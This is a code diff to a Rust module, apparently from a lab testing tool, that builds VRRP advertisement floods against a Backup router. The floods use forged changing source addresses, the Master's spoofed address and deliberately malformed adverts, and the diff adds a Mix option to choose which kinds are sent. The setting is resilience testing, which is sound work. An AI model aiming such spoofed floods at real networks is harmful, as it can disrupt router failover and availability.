@@ -1,6 +1,6 @@
-//! What a flood sends at a Backup: half valid lower-priority adverts for its VRID (from forged
-//! sources that change with every frame, and from the Master's own address), half adverts
-//! that break RFC 5798 §7.1 or belong to no instance. Every frame goes to 224.0.0.18 inside
+//! What a flood sends at a Backup: valid lower-priority adverts for its VRID (from forged
+//! sources that change with every frame, and from the Master's own address), adverts that
+//! break RFC 5798 §7.1 or belong to no instance, or both alternating ([`Mix`]). Every frame goes to 224.0.0.18 inside
 //! an Ethernet frame addressed to the Backup's MAC, so only the Backup is attacked: the
 //! Master (keepalived, whose advert timer invalid packets push, see LAB.md) stays a clean
 //! reference and any transition is the Backup's own doing.
@@ -11,10 +11,38 @@ use anyhow::Result;
 
 use crate::xdp_frames::{Advert, L3, fix_ipv4_checksum};
 
-/// One line for reports: what [`frames`] sends.
-pub const DESCRIPTION: &str = "1:1 valid priority-50 adverts for the Backup's VRID (15 forged \
-    sources + the Master's address) and invalid ones (bad checksum, TTL 254, version 4, type 2, \
-    truncated, count mismatch, garbage payload, unknown VRID), to the Backup's MAC";
+/// Which frames a flood sends.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub enum Mix {
+    /// Lower-priority and invalid adverts, alternating (the default).
+    #[default]
+    Both,
+    /// Valid lower-priority adverts only.
+    LowerPriority,
+    /// Invalid adverts only.
+    Invalid,
+}
+
+impl Mix {
+    /// One line for reports: what [`frames`] sends.
+    pub fn description(self) -> &'static str {
+        match self {
+            Self::Both => {
+                "1:1 valid priority-50 adverts for the Backup's VRID (15 forged sources + the \
+                 Master's address) and invalid ones (bad checksum, TTL 254, version 4, type 2, \
+                 truncated, count mismatch, garbage payload, unknown VRID), to the Backup's MAC"
+            }
+            Self::LowerPriority => {
+                "valid priority-50 adverts for the Backup's VRID (15 forged sources + the \
+                 Master's address), to the Backup's MAC"
+            }
+            Self::Invalid => {
+                "invalid adverts (bad checksum, TTL 254, version 4, type 2, truncated, count \
+                 mismatch, garbage payload, unknown VRID), to the Backup's MAC"
+            }
+        }
+    }
+}
 
 /// The instance under attack.
 #[derive(Clone, Copy, Debug)]
@@ -33,9 +61,9 @@ pub struct Target {
 
 const VRRP: usize = L3 + 20;
 
-/// The flood's frames, in the order to send them round robin (32 frames: lower-priority and
-/// invalid alternate).
-pub fn frames(target: &Target) -> Result<Vec<Vec<u8>>> {
+/// The flood's frames, in the order to send them round robin (16 of each kind in `mix`;
+/// with both, lower-priority and invalid alternate).
+pub fn frames(target: &Target, mix: Mix) -> Result<Vec<Vec<u8>>> {
     let advert = |source: Ipv4Addr, vrid: u8, priority: u8| -> Result<Vec<u8>> {
         let mut advert = Advert::v3(&source.to_string(), vrid, priority);
         advert.interval_cs = target.interval_cs;
@@ -76,11 +104,16 @@ pub fn frames(target: &Target) -> Result<Vec<Vec<u8>>> {
         }),
         advert(Ipv4Addr::new(10, 77, 0, 199), target.vrid % 255 + 1, 250)?,
     ];
-    Ok(lower
-        .into_iter()
-        .zip(invalid.iter().chain(invalid.iter()).cloned())
-        .flat_map(|(lower, invalid)| [lower, invalid])
-        .collect())
+    let invalid: Vec<Vec<u8>> = invalid.iter().chain(invalid.iter()).cloned().collect();
+    Ok(match mix {
+        Mix::Both => lower
+            .into_iter()
+            .zip(invalid)
+            .flat_map(|(lower, invalid)| [lower, invalid])
+            .collect(),
+        Mix::LowerPriority => lower,
+        Mix::Invalid => invalid,
+    })
 }
 
 #[cfg(test)]
@@ -96,10 +129,11 @@ mod tests {
             master: Ipv4Addr::new(10, 77, 0, 1),
             vip: Ipv4Addr::new(10, 78, 1, 1),
         };
-        let frames = frames(&target)?;
+        let frames = frames(&target, Mix::Both)?;
         assert_eq!(frames.len(), 32);
         assert!(frames.iter().all(|frame| frame[..6] == target.mac));
         // Lower-priority adverts at even positions: VRID 1, priority 50.
+        assert_eq!(super::frames(&target, Mix::Invalid)?.len(), 16);
         assert!(
             frames
                 .iter()
